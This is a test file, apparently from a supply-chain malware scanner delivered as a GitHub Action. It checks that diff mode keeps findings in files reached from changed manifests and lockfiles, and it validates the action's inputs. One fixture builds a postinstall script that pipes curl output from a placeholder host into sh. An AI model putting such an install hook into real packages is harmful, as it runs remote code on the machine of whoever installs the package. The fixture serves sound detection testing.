/** Diff mode in process: what a change is responsible for (reached files, lockfile deltas). */
import assert from 'node:assert/strict';
import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { FIXTURES, scanFolder, tempDir } from './helpers.js';
import { acquireLocal } from '../src/acquire/local.js';
import { DEFAULT_LIMITS } from '../src/options.js';
import { loadSignatures } from '../src/signatures/load.js';
import { reachedFrom } from '../src/action/reach.js';
import { dependencyDelta, dependencyFileKind, selectForDiff, isLockfile } from '../src/action/diff.js';
import { parseInputs } from '../src/action/inputs.js';

describe('Action diff mode', () => {
  it('a changed package.json script keeps findings in the unchanged file it runs', async () => {
    const t = tempDir();
    try {
      mkdirSync(path.join(t.dir, 'scripts'));
      writeFileSync(path.join(t.dir, 'package.json'), JSON.stringify({ name: 'x', version: '1.0.0', scripts: { postinstall: 'node scripts/setup.js' } }, null, 2));
      writeFileSync(path.join(t.dir, 'scripts', 'setup.js'), "const { execSync } = require('child_process');\nexecSync('curl -s https://api-settings.invalid/settings/linux?flag=7 | sh');\n");
      writeFileSync(path.join(t.dir, 'README.md'), '# x\n');
      const result = await scanFolder(t.dir);
      const inSetup = result.findings.filter((f) => f.location.file === 'scripts/setup.js');
      assert.ok(inSetup.length > 0, 'the fixture has a finding in scripts/setup.js');
      const ws = await acquireLocal(t.dir, DEFAULT_LIMITS);
      const sigs = loadSignatures();
      const reached = await reachedFrom(ws, new Set(['package.json']), sigs);
      assert.ok(reached.has('scripts/setup.js'), [...reached].join(','));
      const kept = selectForDiff(result.findings, { changed: new Set(['package.json']), reached, dependencyFiles: new Map() });
      assert.ok(kept.some((f) => f.location.file === 'scripts/setup.js'));
      const readmeOnly = selectForDiff(result.findings, { changed: new Set(['README.md']), reached: await reachedFrom(ws, new Set(['README.md']), sigs), dependencyFiles: new Map() });
      assert.deepEqual(readmeOnly, []);
      await ws.dispose();
    } finally {
      t.cleanup();
    }
  });

  describe('dependency files: only packages the change adds or changes', () => {
    // Every lockfile fixture with a clean twin: base = clean, head = bad is a PR adding the malicious entry;
    // base = head (a whitespace-only change) must report nothing from the file.
    const repos = path.join(FIXTURES, 'repos');
    const pairs = readdirSync(repos)
      .filter((d) => d.endsWith('-bad') && existsSync(path.join(repos, d.replace(/-bad$/, '-clean'))))
      .flatMap((d) => readdirSync(path.join(repos, d)).filter((f) => dependencyFileKind(f)).map((f) => [d, f] as const))
      .filter(([d, f]) => existsSync(path.join(repos, d.replace(/-bad$/, '-clean'), f)));

    it('there are lockfile fixture pairs to compare', () => assert.ok(pairs.length >= 5, JSON.stringify(pairs)));

    for (const [dir, file] of pairs) {
      it(`${dir}/${file}: reported when added, not when already on the base, all when no parser reads it`, async () => {
        const head = readFileSync(path.join(repos, dir, file), 'utf8');
        const clean = readFileSync(path.join(repos, dir.replace(/-bad$/, '-clean'), file), 'utf8');
        const result = await scanFolder(path.join(repos, dir));
        const inFile = result.findings.filter((f) => f.location.file === file);
        if (inFile.length === 0) return; // this fixture's finding lives elsewhere (e.g. a binary lockfile)
        const pick = async (base: string | undefined) => {
          const delta = await dependencyDelta(file, head, base);
          return selectForDiff(result.findings, { changed: new Set([file]), dependencyFiles: new Map([[file, delta]]) }).filter((f) => f.location.file === file);
        };
        const delta = await dependencyDelta(file, head, clean);
        if (!delta.understood) {
          assert.equal((await pick(clean)).length, inFile.length, 'unparsed: every finding kept');
          return;
        }
        assert.ok((await pick(clean)).length > 0, 'the added entry is reported');
        assert.equal((await pick(`${head}\n`)).filter((f) => f.evidence.some((e) => e.kind === 'package')).length, 0, 'entries already on the base are not');
        assert.equal((await pick(undefined)).length, inFile.length, 'a new file: everything in it');
      });
    }

    it('package.json: a pre-existing dependency is not reported, a new install script is', async () => {
      const base = JSON.stringify({ name: 'x', version: '1.0.0', dependencies: { axios: '^1.14.0' } }, null, 2);
      const head = JSON.stringify({ name: 'x', version: '1.0.0', dependencies: { axios: '^1.14.0' }, scripts: { postinstall: 'node setup.js' } }, null, 2);
      const delta = await dependencyDelta('package.json', head, base);
      assert.equal(delta.kind, 'manifest');
      assert.deepEqual(delta.added, []);
      const dep = { ruleId: 'known-malicious-package', severity: 'critical', confidence: 'high', message: 'axios', location: { file: 'package.json', line: 4 }, evidence: [{ kind: 'package', value: 'npm axios@^1.14.0' }], fingerprint: 'a' } as const;
      const script = { ruleId: 'lifecycle-script', severity: 'high', confidence: 'high', message: 'postinstall', location: { file: 'package.json', line: 7 }, evidence: [], fingerprint: 'b' } as const;
      const kept = selectForDiff([{ ...dep, evidence: [...dep.evidence] }, { ...script, evidence: [] }], { changed: new Set(['package.json']), dependencyFiles: new Map([['package.json', delta]]) });
      assert.deepEqual(kept.map((f) => f.ruleId), ['lifecycle-script']);
    });

    it('a file no parser understands keeps every finding (fail safe)', async () => {
      const delta = await dependencyDelta('uv.lock', 'not a lockfile', 'also not');
      assert.equal(delta.understood, false);
      assert.ok(isLockfile('a/b/pnpm-lock.yaml') && !isLockfile('package.json'));
      assert.equal(dependencyFileKind('requirements-dev.txt'), 'manifest');
    });
  });
});

describe('Action inputs', () => {
  const env = { GITHUB_WORKSPACE: '/ws', RUNNER_TEMP: '/tmp/rt', GITHUB_EVENT_NAME: 'pull_request' };
  const read = (inputs: Record<string, string>) => (name: string) => inputs[name] ?? '';
  it('defaults: diff on pull requests, full otherwise; SARIF in RUNNER_TEMP', () => {
    const i = parseInputs(env, read({}));
    assert.equal(i.mode, 'diff');
    assert.equal(i.path, '/ws');
    assert.equal(i.sarifFile, '/tmp/rt/lurescan.sarif');
    assert.equal(i.failOn, undefined, 'fail-on falls back to the config, then the default');
    assert.equal(i.commentSummaryInPr, 'on-failure');
    assert.equal(i.annotations, 50);
    assert.equal(parseInputs({ ...env, GITHUB_EVENT_NAME: 'schedule' }, read({})).mode, 'full');
  });
  const bad: [Record<string, string>, RegExp][] = [
    [{ mode: 'partial' }, /input 'mode' must be one of diff, full/],
    [{ 'fail-on': 'error' }, /input 'fail-on' must be one of block, warn, never/],
    [{ 'comment-summary-in-pr': 'yes' }, /comment-summary-in-pr/],
    [{ annotations: '-1' }, /input 'annotations' must be a whole number/],
  ];
  for (const [inputs, want] of bad) it(`rejects ${JSON.stringify(inputs)}`, () => assert.throws(() => parseInputs(env, read(inputs)), want));
});
